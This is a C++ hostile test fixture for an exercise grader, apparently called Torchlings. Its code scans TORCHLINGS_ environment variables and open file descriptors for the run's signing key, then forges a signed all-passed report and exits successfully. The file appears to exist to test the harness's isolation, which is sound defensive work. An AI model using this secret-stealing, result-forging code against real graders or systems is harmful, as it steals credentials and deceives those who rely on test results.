/// @file
/// @brief Hostile fixture (learner side): a global's initializer looks for the run's key in
/// the environment (every TORCHLINGS_ variable) and in every descriptor listed in
/// /proc/self/fd, reading what each holds; the failing test then signs the rest of an
/// all-passed report with whatever it found (HMAC-SHA256, as the reporter does), writes it to
/// every pipe and ends with _exit(0).
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "forgery.h"

extern char** environ;

namespace {

std::string g_stolen;

const bool g_looked = [] {
    for (char** entry = environ; *entry != nullptr; ++entry) {
        if (std::strncmp(*entry, "TORCHLINGS_", 11) == 0) {
            g_stolen += *entry;  // nothing should be left to find here
        }
    }
    if (DIR* fds = opendir("/proc/self/fd")) {
        while (const dirent* entry = readdir(fds)) {
            const int fd = std::atoi(entry->d_name);
            if (fd < 3 || fd == dirfd(fds)) {
                continue;
            }
            fcntl(fd, F_SETFL, fcntl(fd, F_GETFL) | O_NONBLOCK);
            char buffer[64];
            const ssize_t got = read(fd, buffer, sizeof buffer);
            if (got > 0) {
                g_stolen.assign(buffer, static_cast<std::size_t>(got));
            }
        }
        closedir(fds);
    }
    return true;
}();

}  // namespace

int fx_add(int a, int b) {
    if (a != b || !g_looked) {
        return a + b;
    }
    hx::send_to_every_pipe_and_exit(hx::signed_passed_end(g_stolen.data(), g_stolen.size()));
}
